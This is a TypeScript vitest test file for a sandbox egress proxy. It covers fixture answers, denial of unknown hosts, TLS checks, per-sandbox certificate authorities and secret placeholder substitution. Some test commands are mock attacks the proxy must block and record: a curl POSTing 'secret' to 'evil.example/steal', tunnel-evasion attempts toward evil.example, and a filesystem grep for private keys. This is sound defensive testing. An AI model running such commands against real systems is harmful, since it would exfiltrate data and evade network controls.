import { once } from 'node:events';
import type { IncomingMessage, ServerResponse } from 'node:http';
import { createServer } from 'node:https';
import { gzipSync } from 'node:zlib';
import { expect, onTestFinished, test, vi } from 'vitest';
import type { EgressEvent, EgressPolicy } from '../../../../src/contracts/egress.ts';
import type { Outside } from '../../../../src/sandbox/network/egress/reach.ts';
import {
  CertificateAuthority,
  type Credentials,
} from '../../../../src/sandbox/network/tls/certificate-authority.ts';
import { stateFolder } from '../../docker-fixture.ts';
import { egressWatch } from './watch-egress.ts';

const watch = egressWatch(stateFolder());

const FIXTURES: EgressPolicy = {
  kind: 'fixtures',
  fixtures: [{ url: '^https://api\\.example/', status: 200, headers: {}, body: 'answer' }],
};
const ALLOWED = {
  kind: 'allow',
  hosts: ['allowed.example', 'allowed.example:993'],
  unopened: [],
} satisfies EgressPolicy;

const WITHOUT_PROXY =
  'env -u http_proxy -u https_proxy -u all_proxy -u HTTP_PROXY -u HTTPS_PROXY -u ALL_PROXY';

/** A server with that certificate, in the place of all public hosts; `answer` may say what it has seen. */
async function publicHost(
  credentials: Credentials,
  authority: CertificateAuthority,
  answer: (incoming: IncomingMessage, outgoing: ServerResponse) => unknown = answerFromOutside,
) {
  const seen: unknown[] = [];
  const server = createServer(credentials, async (incoming, outgoing) =>
    seen.push(await answer(incoming, outgoing)),
  );
  onTestFinished(() => void server.close());
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  const address = server.address();
  const port = typeof address === 'object' && address !== null ? address.port : 0;
  const outside: Outside = {
    placeOf: async () => ({ address: '127.0.0.1', port }),
    authorities: () => [authority.pem],
  };
  return { seen, outside };
}

async function answerFromOutside(incoming: IncomingMessage, outgoing: ServerResponse): Promise<string> {
  const body = Buffer.concat(await incoming.toArray());
  outgoing.writeHead(207, { 'x-from': 'outside' }).end('from outside');
  return `${incoming.method} ${incoming.headers.host} ${incoming.url} ${body}`;
}

/** What is left besides questions for names. */
function attempts(events: readonly EgressEvent[]): EgressEvent[] {
  return events.filter(({ kind }) => kind !== 'dns');
}

test.each([
  ['curl', 'curl --silent --show-error https://api.example/p'],
  ['curl, given a body', 'head -c 3M /dev/urandom | curl -sS https://api.example/p --data-binary @-'],
  [
    'urllib',
    `python3 -c 'import urllib.request as u; print(u.urlopen("https://api.example/p").read().decode())'`,
  ],
  ['fetch', `node -e 'fetch("https://api.example/p").then((r) => r.text()).then(console.log)'`],
  [
    'https',
    `node -e 'require("https").get("https://api.example/p", (r) => r.on("data", (d) => console.log(String(d))))'`,
  ],
])('a fixture answers %s, through the proxy and without it', async (_client, command) => {
  const script = `${command}; ${command.replace(/^|(?<=\| )/, `${WITHOUT_PROXY} `)}`;
  const { said, events, sent } = await watch(FIXTURES, script);
  expect(said.replaceAll('\n', '')).toBe('answeranswer');
  const asked = { kind: 'http', scheme: 'https', host: 'api.example', port: 443, path: '/p' };
  expect(attempts(events)).toMatchObject([1, 2].map(() => ({ ...asked, decision: 'fixture' })));
  expect(sent.flatMap(({ lacks }) => lacks ?? [])).toEqual([]);
  expect(sent.filter(({ form }) => form === 'stream')).toEqual([]);
});

test('programs trust the authority without any variable too', async () => {
  const { said, events } = await watch(
    FIXTURES,
    `env -i python3 -c 'import urllib.request as u; print(u.urlopen("https://api.example/").read())'
    env -i curl -sS https://api.example/; env -i git ls-remote https://api.example/r`,
  );
  expect(said).toContain("b'answer'\nanswer");
  expect(attempts(events)).toContainEqual(
    expect.objectContaining({ path: '/r/info/refs?service=git-upload-pack', decision: 'fixture' }),
  );
});

test('a client that trusts nobody is on record with what it did', async () => {
  const connect =
    'c = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT); c.wrap_socket(socket.create_connection(("api.example", 443)), server_hostname="api.example")';
  const { events } = await watch(FIXTURES, `python3 -c 'import socket, ssl; ${connect}' 2>/dev/null; true`);
  const reason = "the client gave up the TLS handshake: it may not trust the sandbox's authority";
  expect(attempts(events)).toMatchObject([
    { kind: 'tls', host: 'api.example', outcome: { kind: 'failed', reason } },
  ]);
  expect(new Set(events.flatMap((event) => (event.kind === 'dns' ? event.decision : [])))).toEqual(
    new Set(['inside']),
  );
});

test('a request that no fixture matches is denied and recorded in full', async () => {
  const { said, events } = await watch(FIXTURES, 'curl -sS https://evil.example/steal?x --data secret');
  expect(said).toBe('evil.example cannot be reached from here.');
  expect(attempts(events)).toMatchObject([
    {
      ...{ kind: 'http', scheme: 'https', host: 'evil.example', decision: 'denied' },
      ...{ method: 'POST', path: '/steal?x', body: { text: 'secret' } },
    },
  ]);
});

test('a client that only speaks HTTP/2, or another protocol, is refused at once', async () => {
  const { said, events } = await watch(
    FIXTURES,
    `node -e 'const s = require("http2").connect("https://api.example"); s.on("error", (e) => console.log(e.code))'
    curl -sS --max-time 8 --http2-prior-knowledge --noproxy '*' http://api.example/ || echo "curl $?"
    node -e 'const s = new WebSocket("wss://api.example/w"); s.onerror = () => console.log("no socket")'
    printf 'hello' | openssl s_client -quiet -connect api.example:443 2>/dev/null; echo end`,
  );
  expect(said).toMatch(/NO_APPLICATION_PROTOCOL.*curl (?!28)\d+.*no socket.*end/s);
  expect(attempts(events).map(({ kind }) => kind)).toContain('tls');
});

test.each([
  [
    'the certificate of another host',
    'curl -sS --connect-to api.example:443:evil.example:443 https://api.example/',
  ],
  ['another tunnel inside', 'curl -sS --proxy https://api.example:443 https://evil.example/'],
])('a tunnel to a host is on record, with %s too', async (_what, command) => {
  const { events } = await watch(FIXTURES, command);
  expect(attempts(events)).toContainEqual(
    expect.objectContaining({ kind: 'connect', host: 'evil.example', decision: 'denied' }),
  );
});

test('a client that is asked for another key to share is read like any other', async () => {
  const { said, events, sent } = await watch(
    FIXTURES,
    `curl -sS --curves X448:X25519 https://api.example/; ${WITHOUT_PROXY} curl -sS --curves X448:P-256 https://api.example/`,
  );
  expect(said).toBe('answeranswer');
  expect(attempts(events).map(({ kind }) => kind)).toEqual(['http', 'http']);
  expect(sent.flatMap(({ lacks }) => lacks ?? [])).toEqual([]);
});

test('an allowed host is reached with its own certificate checked, and what is asked is recorded', async () => {
  const authority = new CertificateAuthority();
  const { seen, outside } = await publicHost(authority.credentialsFor('allowed.example'), authority);
  const { said, events } = await watch(
    ALLOWED,
    `curl -sS --include https://allowed.example/a?b --data up --header 'Host: other.example'; echo
    ${WITHOUT_PROXY} curl -sS https://allowed.example/direct; echo
    curl -sS --proxytunnel https://other.example/ 2>&1`,
    outside,
  );
  expect(said).toMatch(/HTTP\/1.1 207.*x-from: outside.*from outside\nfrom outside\n.*403$/s);
  expect(seen).toEqual(['POST allowed.example /a?b up', 'GET allowed.example /direct ']);
  expect(attempts(events)).toMatchObject([
    { kind: 'http', scheme: 'https', host: 'allowed.example', decision: 'forwarded', body: { text: 'up' } },
    { kind: 'http', scheme: 'https', host: 'allowed.example', decision: 'forwarded', path: '/direct' },
    { kind: 'connect', host: 'other.example', decision: 'denied' },
  ]);
});

test.each<[string, (authority: CertificateAuthority) => [Credentials, CertificateAuthority], string]>([
  [
    'of an unknown authority',
    (authority) => [authority.credentialsFor('allowed.example'), new CertificateAuthority()],
    'UNABLE_TO_VERIFY_LEAF_SIGNATURE',
  ],
  [
    'of another host',
    (authority) => [authority.credentialsFor('other.example'), authority],
    'ERR_TLS_CERT_ALTNAME_INVALID',
  ],
  ['that has expired', (authority) => [expired(authority), authority], 'CERT_HAS_EXPIRED'],
])('a real certificate %s is refused, and nothing is sent', async (_what, made, code) => {
  const { seen, outside } = await publicHost(...made(new CertificateAuthority()));
  const { said, events } = await watch(ALLOWED, 'curl -sS https://allowed.example/ --data secret', outside);
  expect(said).toBe(`allowed.example cannot be trusted: the TLS connection failed with ${code}.`);
  expect(seen).toEqual([]);
  const outcome = { kind: 'failed', reason: `the TLS connection failed with ${code}` };
  expect(attempts(events)).toMatchObject([{ kind: 'http', decision: 'forwarded', outcome }]);
});

function expired(authority: CertificateAuthority): Credentials {
  vi.useFakeTimers({ toFake: ['Date'], now: Date.now() - 365 * 24 * 60 * 60 * 1000 });
  onTestFinished(() => void vi.useRealTimers());
  const credentials = authority.credentialsFor('allowed.example');
  vi.useRealTimers();
  return credentials;
}

test('a host that is not opened shows its own certificate, and only its name is seen', async () => {
  const authority = new CertificateAuthority();
  const { seen, outside } = await publicHost(authority.credentialsFor('allowed.example'), authority);
  const ask = `${WITHOUT_PROXY} curl -sS --insecure`;
  const { said, events } = await watch(
    { ...ALLOWED, unopened: ['allowed.example'] },
    `curl -sS https://allowed.example/trusted 2>&1; ${ask} https://allowed.example/direct; curl -sS --insecure https://allowed.example/`,
    outside,
  );
  expect(said).toMatch(/certificate.*from outsidefrom outside$/s);
  expect(seen).toEqual(['GET allowed.example /direct ', 'GET allowed.example / ']);
  expect(attempts(events)).toMatchObject([
    { kind: 'connect', host: 'allowed.example', decision: 'forwarded' },
    { kind: 'tls', host: 'allowed.example', decision: 'forwarded' },
    { kind: 'connect', host: 'allowed.example', decision: 'forwarded' },
  ]);
});

test('each sandbox has an authority of its own, whose key is nowhere in it', async () => {
  const show = `sha256sum </run/assay/authority.pem
  grep --recursive --files-with-matches 'PRIVATE KEY-----' / --include='*' --exclude-dir=proc --exclude-dir=sys --exclude-dir=node_modules --exclude-dir=usr 2>/dev/null; true`;
  const [one, other] = [await watch(FIXTURES, show), await watch(FIXTURES, show)];
  expect(one.said).toMatch(/^[0-9a-f]{64} {2}-$/);
  expect(one.said).not.toBe(other.said);
});

const KEY = 'value-that-nobody-sees';
const SECRETS = [{ variable: 'RATES_KEY', value: KEY, hosts: ['allowed.example'] }];

test('a service gets its secret, and the sandbox neither holds it nor is told it', async () => {
  const authority = new CertificateAuthority();
  const { seen, outside } = await publicHost(authority.credentialsFor('allowed.example'), authority, echo);
  const { said, events } = await watch(
    ALLOWED,
    `echo "$RATES_KEY"
    curl -sS --include https://allowed.example/?key=$RATES_KEY --header "Authorization: Bearer $RATES_KEY" --compressed
    curl -sS https://allowed.example/ --user "me:$RATES_KEY"
    curl -sS --compressed http://allowed.example/ --header "X-Key: $RATES_KEY"
    env; grep --recursive --count ${KEY} /proc/self/environ`,
    outside,
    SECRETS,
  );
  expect(seen.slice(0, 2)).toEqual([
    `GET allowed.example /?key=${KEY} Bearer ${KEY}`,
    `GET allowed.example / Basic ${Buffer.from(`me:${KEY}`).toString('base64')}`,
  ]);
  expect(seen.join()).not.toContain('gzip');
  expect(said).toContain('assay-placeholder-RATES_KEY-end');
  for (const text of [said, JSON.stringify(events)]) {
    expect(text).not.toContain(KEY);
    expect(text).not.toContain(Buffer.from(`me:${KEY}`).toString('base64').slice(6, -4));
  }
});

test('a secret comes back neither in the name of a header nor in parts', async () => {
  const authority = new CertificateAuthority();
  const { outside } = await publicHost(
    authority.credentialsFor('allowed.example'),
    authority,
    ({ headers }, outgoing) => outgoing.writeHead(200, { [KEY]: '1' }).end(`range: ${headers.range}`),
  );
  const { said } = await watch(ALLOWED, 'curl -sSi --range 0-5 https://allowed.example/', outside, SECRETS);
  expect(said).toContain('range: undefined');
  expect(said.toLowerCase()).not.toContain(KEY);
});

test('a host that is not given a secret gets its placeholder', async () => {
  const authority = new CertificateAuthority();
  const { seen, outside } = await publicHost(authority.credentialsFor('allowed.example'), authority, echo);
  const other = SECRETS.map((secret) => ({ ...secret, hosts: ['other.example'] }));
  await watch(ALLOWED, 'curl -sS https://allowed.example/ --oauth2-bearer "$RATES_KEY"', outside, other);
  expect(seen).toEqual(['GET allowed.example / Bearer assay-placeholder-RATES_KEY-end']);
});

test('an answer that is compressed against the request is not passed on, since it may hold the secret', async () => {
  const authority = new CertificateAuthority();
  const { outside } = await publicHost(
    authority.credentialsFor('allowed.example'),
    authority,
    (_incoming, outgoing) => outgoing.writeHead(200, { 'content-encoding': 'gzip' }).end(gzipSync(KEY)),
  );
  const { said } = await watch(ALLOWED, 'curl -sS https://allowed.example/', outside, SECRETS);
  expect(said).toBe('The answer is compressed (gzip), although it must not be.');
});

/** Sends back what it was sent, in a header and in the body. */
function echo(incoming: IncomingMessage, outgoing: ServerResponse): string {
  const { authorization = '', 'accept-encoding': codings = '' } = incoming.headers;
  outgoing.writeHead(200, { 'x-back': authorization });
  outgoing.end(JSON.stringify({ url: incoming.url, headers: incoming.headers }));
  return `${incoming.method} ${incoming.headers.host} ${incoming.url} ${authorization}${codings}`;
}
